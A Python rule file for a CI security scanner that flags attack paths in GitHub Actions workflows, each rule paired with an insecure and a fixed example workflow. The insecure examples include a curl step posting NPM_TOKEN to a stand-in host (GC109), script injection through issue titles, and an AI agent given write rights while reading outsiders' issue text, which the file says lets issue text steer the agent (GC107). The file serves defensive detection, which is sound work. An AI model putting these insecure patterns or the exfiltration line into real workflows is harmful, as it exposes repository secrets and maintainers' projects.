"""Attack paths through GitHub's workflows: one finding a path, as the chain, with the cheapest link to cut."""

from collections.abc import Iterator

from gate.ci.github.attack_paths import AttackPath
from gate.ci.rule import rule
from gate.model import Severity
from gate.rules import Hit, RuleScope

PATHS = RuleScope(AttackPath)
MAX_MESSAGE = 900
"""Characters of a message."""
_PIN = "0123456789abcdef0123456789abcdef01234567"
_CHECKOUT = f"      - uses: actions/checkout@{_PIN} # v4\n"
_HEAD = f"{_CHECKOUT}        with:\n          ref: ${{{{ github.event.pull_request.head.sha }}}}\n"
_RUNS_ON = "    runs-on: [self-hosted, linux]\n    steps:\n      - run: make\n"
_AFTER = (
    "name: CI\non:\n  pull_request:\n  workflow_run:\n    workflows: [CI]\npermissions: {contents: write}\n"
    "jobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
    f"      - uses: actions/download-artifact@{_PIN} # v4\n        with:\n"
)
_RELEASE = (
    "  release:\n    if: github.event_name == 'push'\n    runs-on: ubuntu-latest\n    permissions: {contents: write}\n"
    f"    steps:\n      - uses: actions/cache@{_PIN} # v4\n        with: {{path: target, key: target}}\n"
    "      - run: cargo publish\n"
)


def _job(trigger: str, steps: str, permissions: str = "contents: write") -> str:
    head = f"on: {trigger}\npermissions: {{{permissions}}}\njobs:\n  check:\n    runs-on: ubuntu-latest\n"
    return f"{head}    steps:\n{steps}"


def _hits(path: AttackPath, kind: str) -> Iterator[Hit]:
    if path.kind == kind:
        message = f"{' → '.join(path.chain)}. To cut it: {path.cut}"
        yield Hit(
            message=message[:MAX_MESSAGE],
            path=path.path,
            line=path.line,
            evidence=path.evidence,
            severity=path.severity,
            confidence=path.confidence,
            part=path,
        )


@rule(
    "GC101",
    Severity.HIGH,
    "Outsiders' code runs with the repository's rights",
    looks_at=PATHS,
    why="The job checks out the head of a pull request and then builds or tests it: its author decides what runs, and "
    "gets the job's token and secrets. So were the keys of spotbugs and PostHog stolen, and Trivy's repository taken.",
    mend="Build pull requests on pull_request, without rights; let a second workflow handle results as data.",
    references=("CWE-829", "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"),
    bad=_job("pull_request_target", f"{_HEAD}      - run: npm ci\n"),
    good=_job("pull_request", f"{_HEAD}      - run: npm ci\n"),
)
def code_of_outsiders(path: AttackPath) -> Iterator[Hit]:
    yield from _hits(path, "code")


@rule(
    "GC102",
    Severity.HIGH,
    "Outsiders' text becomes part of a script",
    looks_at=PATHS,
    why="A title, a comment or a branch's name is put into a script as text before the shell reads it: one with `$(` "
    "in it is a command. The packages of nx and Ultralytics were taken over so.",
    mend="Put the expression into a variable under env, and use that in quotes in the script.",
    references=("CWE-94", "https://securitylab.github.com/resources/github-actions-untrusted-input/"),
    bad=_job("issues", '      - run: echo "${{ github.event.issue.title }}"\n'),
    good=_job(
        "issues",
        '      - run: echo "$TITLE"\n        env:\n          TITLE: ${{ github.event.issue.title }}\n',
    ),
)
def text_of_outsiders(path: AttackPath) -> Iterator[Hit]:
    yield from _hits(path, "text")


@rule(
    "GC103",
    Severity.MEDIUM,
    "Artifact of an outsider's run lies where a program is run",
    looks_at=PATHS,
    why="The run on a fork's pull request decides what the artifact holds: its files can replace those that a later "
    "step runs, with rights that the first run had not.",
    mend="Fetch artifacts into a folder of their own below runner.temp, and treat what they hold as data.",
    references=("CWE-829",),
    bad=f"{_AFTER}          run-id: ${{{{ github.event.workflow_run.id }}}}\n      - run: ./build.sh\n",
    good=f"{_AFTER}          run-id: ${{{{ github.event.workflow_run.id }}}}\n"
    "          path: ${{ runner.temp }}/a\n      - run: ./build.sh\n",
)
def artifact_of_outsiders(path: AttackPath) -> Iterator[Hit]:
    yield from _hits(path, "artifact")


@rule(
    "GC104",
    Severity.HIGH,
    "Outsiders' text reaches the environment of later steps",
    looks_at=PATHS,
    why="A line break in the text adds a variable of its own: LD_PRELOAD or NODE_OPTIONS make the next program "
    "run what they name.",
    mend="Check the value first, such as that it is a number, or use GITHUB_OUTPUT.",
    references=("CWE-77",),
    bad=_job(
        "issue_comment",
        '      - run: echo "BODY=$BODY" >> "$GITHUB_ENV"\n'
        "        env:\n          BODY: ${{ github.event.comment.body }}\n",
    ),
    good=_job(
        "issue_comment",
        '      - run: echo "body=$BODY" >> "$GITHUB_OUTPUT"\n'
        "        env:\n          BODY: ${{ github.event.comment.body }}\n",
    ),
)
def environment_of_outsiders(path: AttackPath) -> Iterator[Hit]:
    yield from _hits(path, "environment")


@rule(
    "GC105",
    Severity.HIGH,
    "Cache that outsiders can fill is used to publish",
    looks_at=PATHS,
    why="What runs on the default branch can write its caches, even with a token that only reads. A release that "
    "restores one publishes what lies in it: Ultralytics and Cline published attackers' code so.",
    mend="Restore no cache where packages are published; run nothing of outsiders on the default branch.",
    references=("CWE-349",),
    bad=_job("{push: , pull_request_target: }", f"{_HEAD}      - run: cargo test\n", "contents: read") + _RELEASE,
    good=_job("{push: , pull_request: }", f"{_HEAD}      - run: cargo test\n", "contents: read") + _RELEASE,
)
def cache_of_outsiders(path: AttackPath) -> Iterator[Hit]:
    yield from _hits(path, "cache")


@rule(
    "GC106",
    Severity.MEDIUM,
    "Forks' code runs on a machine of the project's own",
    looks_at=PATHS,
    why="The machine keeps what a job leaves behind: a program of one pull request can wait for the next job's "
    "secrets. PyTorch's machines were open so. It matters where the repository is public.",
    mend="Use machines of GitHub's for pull requests, or ones that are thrown away after each job.",
    references=("CWE-829",),
    bad=f"on: pull_request\npermissions: {{}}\njobs:\n  a:\n{_RUNS_ON}",
    good=f"on: push\npermissions: {{}}\njobs:\n  a:\n{_RUNS_ON}",
)
def machines_of_the_project(path: AttackPath) -> Iterator[Hit]:
    yield from _hits(path, "machine")


@rule(
    "GC107",
    Severity.HIGH,
    "Agent with rights reads what outsiders write",
    looks_at=PATHS,
    why="What a person writes into an issue is an instruction to the agent like any other: it can use the job's "
    "token and tools. The issue triage of Cline led to its publishing tokens so.",
    mend="Let only members start it, give the job a token that reads, and no tools that run commands.",
    references=("CWE-77", "CWE-1427"),
    bad=_job(
        "issues",
        f"      - uses: anthropics/claude-code-action@{_PIN} # v1\n        with:\n"
        "          allowed_non_write_users: '*'\n          prompt: Sort ${{ github.event.issue.title }}\n",
    ),
    good=_job(
        "issues",
        f"      - uses: anthropics/claude-code-action@{_PIN} # v1\n        with:\n"
        "          prompt: Sort ${{ github.event.issue.title }}\n",
    ),
)
def agents_that_listen_to_outsiders(path: AttackPath) -> Iterator[Hit]:
    yield from _hits(path, "agent")


@rule(
    "GC108",
    Severity.MEDIUM,
    "Action whose tag can be moved holds much",
    looks_at=PATHS,
    why="A tag or branch can be moved to other code, which then runs in every workflow that names it: so were secrets "
    "read from thousands of repositories through tj-actions/changed-files, reviewdog and trivy-action.",
    mend="Pin the commit, with the tag as a comment: owner/action@COMMIT # v1.2.3",
    references=("CWE-829",),
    bad=_job("push", "      - uses: octo/tool@v1\n        with: {token: '${{ secrets.NPM_TOKEN }}'}\n"),
    good=_job(
        "push", f"      - uses: octo/tool@{_PIN} # v1\n        with: {{token: '${{{{ secrets.NPM_TOKEN }}}}'}}\n"
    ),
)
def suppliers_with_rights(path: AttackPath) -> Iterator[Hit]:
    yield from _hits(path, "supplier")


@rule(
    "GC109",
    Severity.HIGH,
    "Secrets are sent to another host",
    looks_at=PATHS,
    why="The step sends all secrets, or some under their own names: so did the workflows that GhostAction and "
    "Shai-Hulud pushed to thousands of repositories with stolen tokens.",
    mend="Remove the step, look who pushed it, and replace every secret of the repository if it has run.",
    references=("CWE-200", "CWE-506"),
    bad=_job("push", "      - run: curl -d 'NPM_TOKEN=${{ secrets.NPM_TOKEN }}' https://collect.example\n"),
    good=_job("push", "      - run: npm publish\n        env: {NPM_TOKEN: '${{ secrets.NPM_TOKEN }}'}\n"),
)
def secrets_that_leave(path: AttackPath) -> Iterator[Hit]:
    yield from _hits(path, "leak")


@rule(
    "GC110",
    Severity.LOW,
    "Text given by hand becomes part of a script",
    looks_at=PATHS,
    why="Who starts the workflow writes an input, and one with `$(` in it is a command of a job that holds secrets or "
    "may write. Members who may start it need not have these, and a program may pass on what it was given.",
    mend="Put the expression into a variable under env, and use that in quotes; or list the values (type: choice).",
    references=("CWE-94",),
    bad=_job("{workflow_dispatch: {inputs: {tag: {type: string}}}}", '      - run: git tag "${{ inputs.tag }}"\n'),
    good=_job(
        "{workflow_dispatch: {inputs: {tag: {type: string}}}}",
        '      - run: git tag "$TAG"\n        env: {TAG: "${{ inputs.tag }}"}\n',
    ),
)
def text_of_members(path: AttackPath) -> Iterator[Hit]:
    yield from _hits(path, "member")
